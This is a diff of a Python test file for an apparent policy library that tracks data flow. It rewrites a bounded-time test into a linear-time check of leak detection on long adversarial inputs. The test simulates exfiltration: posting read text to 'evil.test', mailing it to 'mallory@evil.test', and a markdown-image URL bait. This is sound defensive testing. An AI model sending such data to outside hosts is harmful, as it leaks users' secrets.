@@ -1,5 +1,5 @@
 import base64
-import time
+from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -10,6 +10,7 @@ from sentric.policy.readers.values.passages import KEPT
 from sentric.policy.readers.values.shingles import TOKENS_KEPT
 from sentric.policy.rule import Tuning
 from sentric.policy.signals.flow import Flow, FlowFacts
+from support.linear import assert_linear, repeated
 
 SECRET = "‹secret:token:aa11bb22›"
 SHOP = "https://shop.example/orders"
@@ -530,15 +531,17 @@ def test_passages_and_tokens_that_had_to_be_forgotten_are_told_too() -> None:
 @pytest.mark.parametrize(
     "bait", ["QUFB", "4a", "a1b2c3d4 ", "![](https://e.test/?", "https://e.test/a1 ", "\ud800", "1 ", KEY]
 )
-def test_bait_that_goes_outside_costs_bounded_time(bait: str) -> None:
-    text = (bait * 200_000)[:200_000]
-    family = flow(CHECK)
-    read(family, text)
-    started = time.process_time()
-    family.action(post("https://evil.test/", text))
-    family.action(mail(text, "mallory@evil.test"))
-    says(family, text)
-    assert time.process_time() - started < 3
+def test_bait_that_goes_outside_costs_linear_time(bait: str) -> None:
+    def prepare(size: int) -> Callable[[], object]:
+        text, family = repeated(bait, size), flow(CHECK)
+        read(family, text)
+        return lambda: (
+            family.action(post("https://evil.test/", text)),
+            family.action(mail(text, "mallory@evil.test")),
+            says(family, text),
+        )
+
+    assert_linear(prepare, 8_000)
 
 
 # Who and what the task means, without an address
